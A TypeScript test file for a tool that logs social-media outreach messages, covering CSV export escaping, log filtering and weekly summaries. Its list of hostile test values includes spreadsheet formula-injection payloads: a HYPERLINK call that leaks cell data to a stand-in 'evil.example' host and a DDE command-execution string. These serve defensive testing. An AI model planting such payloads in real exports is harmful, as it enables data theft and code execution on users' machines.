import { describe, expect, test } from 'vitest';
import { csvCell, csvDateTime, csvSeparatorFor, toCsv } from '../../src/log/csv';
import { logCsv } from '../../src/log/log-export';
import { filterEntries, NO_FILTER, sortEntries } from '../../src/log/log-query';
import { summarize } from '../../src/log/log-summary';
import type { OutreachEntry } from '../../src/shared/outreach';
import { DAY_MS } from '../../src/shared/time';

/** Wednesday 25 November 2026, noon, local time. */
const NOW = new Date(2026, 10, 25, 12).getTime();
let nextId = 0;

function entry(overrides: Partial<OutreachEntry> = {}): OutreachEntry {
  nextId += 1;
  return {
    id: `00000000-0000-4000-8000-${String(nextId).padStart(12, '0')}`,
    pageId: 'acmecoffee',
    pageName: 'Acme Coffee',
    fanId: 'giulia',
    fanName: 'Giulia Rossi',
    fanUrl: 'https://www.facebook.com/giulia',
    commentId: String(nextId),
    postUrl: 'https://www.facebook.com/acmecoffee/posts/1',
    commentExcerpt: '',
    category: 'thanks',
    templateId: 't',
    templateTitle: 'Thanks',
    text: 'Grazie mille!',
    createdAt: NOW,
    updatedAt: NOW,
    status: 'copied',
    ...overrides,
  };
}

describe('CSV export', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+39 333 1234567', "'+39 333 1234567"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', `"'\tTAB"`],
    [' =1+1', "' =1+1"],
    ['"=1+1', `"'""=1+1"`],
  ])('a cell starting like a formula, %j, is neutralized', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  /** Splits one CSV line as a spreadsheet would with `separator`, honouring quotes. */
  function readCells(line: string, separator: string): string[] {
    const cells: string[] = [];
    let cell = '';
    let quoted = false;
    for (let index = 0; index < line.length; index += 1) {
      const char = line[index]!;
      if (quoted && char === '"' && line[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = !quoted;
      else if (char === separator && !quoted) {
        cells.push(cell);
        cell = '';
      } else cell += char;
    }
    return [...cells, cell];
  }

  const hostile = [
    'nice post;=1+1;@SUM(1+1)',
    'a,=HYPERLINK("x")',
    'tab\t=1+1',
    'fine; -2+3',
    'Lia;=HYPERLINK("https://evil.example/?"&A1)',
    'a,+39 333',
    'x\t@SUM(1)',
    "first line\n=cmd|' /C calc'!A0",
    'a;\tb',
    'a; "=1+1"',
  ];
  for (const separator of [',', ';', '\t']) {
    test(`read with ${JSON.stringify(separator)} and honouring quotes, each hostile value stays one cell`, () => {
      for (const value of hostile) expect(readCells(csvCell(value), separator)).toHaveLength(1);
    });

    for (const written of [',', ';'] as const) {
      test(`written with ${JSON.stringify(written)}, read with ${JSON.stringify(separator)} and ignoring quotes, no piece of any line starts a formula`, () => {
        const file = toCsv(
          ['Fan', 'Comment'],
          hostile.map((value) => ['Lia', value]),
          written,
        ).slice(1);
        // Every line split on the separator, as a spreadsheet does when quotes are not at a field's start.
        const pieces = file.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
        expect(pieces.filter((piece) => /^[=+\-@\t\r]/.test(piece))).toEqual([]);
      });
    }
  }

  test.each([
    ['it', ';'],
    ['it-IT', ';'],
    ['de', ';'],
    ['fr', ';'],
    ['pt-BR', ';'],
    ['en', ','],
    ['en-GB', ','],
  ])('a spreadsheet in %s splits on %j, so the file is written with it', (locale, separator) => {
    expect(csvSeparatorFor(locale)).toBe(separator);
  });

  test('times are local to the zone given, in a form every spreadsheet parses as a date', () => {
    // 08:05 UTC is 09:05 in Rome in winter and 10:05 in summer; midnight is 00, never 24.
    expect(csvDateTime(Date.UTC(2026, 11, 7, 8, 5, 0), 'Europe/Rome')).toBe('2026-12-07 09:05:00');
    expect(csvDateTime(Date.UTC(2026, 6, 7, 8, 5, 0), 'Europe/Rome')).toBe('2026-07-07 10:05:00');
    expect(csvDateTime(Date.UTC(2026, 11, 6, 23, 0, 9), 'Europe/Rome')).toBe('2026-12-07 00:00:09');
  });

  test('the log in Italian has one cell per column when read with “;”, and names its time zone', () => {
    const file = logCsv([entry({ text: 'Grazie, a presto; ciao', fanName: 'Niccolò' })], {
      locale: 'it',
      timeZone: 'Europe/Rome',
    });
    const [header, row] = file.slice(1).split('\r\n');
    const columns = readCells(header!, ';');
    expect(columns).toHaveLength(10);
    expect(columns[0]).toBe('Time (Europe/Rome)');
    expect(readCells(row!, ';')).toEqual([
      csvDateTime(NOW, 'Europe/Rome'),
      'Acme Coffee',
      'Niccolò',
      'https://www.facebook.com/giulia',
      expect.any(String),
      'Thanks',
      expect.any(String),
      'Grazie, a presto; ciao',
      '',
      '',
    ]);
  });

  test('a value with no formula behind a separator is kept as written', () => {
    expect(csvCell('Grazie; a presto')).toBe('"Grazie; a presto"');
  });

  test('quotes, commas and line breaks are quoted', () => {
    expect(csvCell('She said "hi", then\nleft')).toBe('"She said ""hi"", then\nleft"');
  });

  test('the file starts with a UTF-8 byte order mark and ends rows with CRLF', () => {
    expect(toCsv(['Fan'], [['Niccolò']])).toBe('\uFEFFFan\r\nNiccolò\r\n');
  });
});

describe('log filters', () => {
  const log = [
    entry({ fanName: 'Niccolò Ferrari', text: 'Perché no?', category: 'care' }),
    entry({ pageId: 'bakery', category: 'promo', status: 'unknown' }),
    entry({ createdAt: NOW - 3 * DAY_MS }),
  ];

  test('text matches fan names and messages without regard to case or accents', () => {
    expect(filterEntries(log, { ...NO_FILTER, text: 'NICCOLO' })).toEqual([log[0]]);
    expect(filterEntries(log, { ...NO_FILTER, text: 'perche' })).toEqual([log[0]]);
  });

  test('text matches what Facebook’s box sent, when the admin edited it there', () => {
    const edited = entry({ text: 'Hi', sentText: 'Hi, see you on Friday' });
    expect(filterEntries([...log, edited], { ...NO_FILTER, text: 'friday' })).toEqual([edited]);
  });

  test('Page, category and status filters combine', () => {
    expect(filterEntries(log, { ...NO_FILTER, pageId: 'bakery', status: 'unknown' })).toEqual([log[1]]);
    expect(filterEntries(log, { ...NO_FILTER, pageId: 'bakery', category: 'care' })).toEqual([]);
  });

  test('a date range includes the whole of its first and last day', () => {
    const day = (time: number) => new Date(time).toLocaleDateString('sv');
    const endOfDay = new Date(2026, 10, 25, 23, 59).getTime();
    const late = entry({ createdAt: endOfDay });
    expect(filterEntries([...log, late], { ...NO_FILTER, from: day(NOW), to: day(NOW) })).toEqual([
      log[0],
      log[1],
      late,
    ]);
  });

  test('names sort as people read them, numbers by value', () => {
    const names = ['Rossi 10', 'rossi 9', 'Rössi 100'].map((fanName) => entry({ fanName }));
    expect(sortEntries(names, { column: 'fanName', descending: false }).map((e) => e.fanName)).toEqual([
      'rossi 9',
      'Rossi 10',
      'Rössi 100',
    ]);
  });
});

describe('summary', () => {
  test('counts messages per category per week, the current week last', () => {
    const lastWeek = NOW - 7 * DAY_MS;
    const summary = summarize(
      [
        entry({ category: 'care' }),
        entry({ category: 'care' }),
        entry({ createdAt: lastWeek, category: 'warning' }),
      ],
      NOW,
    );
    expect(summary.weeks).toHaveLength(8);
    expect(new Date(summary.weeks.at(-1)!.start)).toEqual(new Date(2026, 10, 23));
    expect(summary.weeks.at(-1)!.counts).toEqual({ thanks: 0, promo: 0, warning: 0, care: 2 });
    expect(summary.weeks.at(-2)!.counts).toEqual({ thanks: 0, promo: 0, warning: 1, care: 0 });
  });

  test('reports the share of fans messaged more than once and the warnings, leaving out failed sends', () => {
    const summary = summarize(
      [
        entry({ fanId: 'a', category: 'warning' }),
        entry({ fanId: 'a' }),
        entry({ fanId: 'b' }),
        entry({ fanId: 'b', status: 'failed', category: 'warning' }),
      ],
      NOW,
    );
    expect(summary).toMatchObject({ fans: 2, repeatFans: 1, warnings: 1 });
  });
});
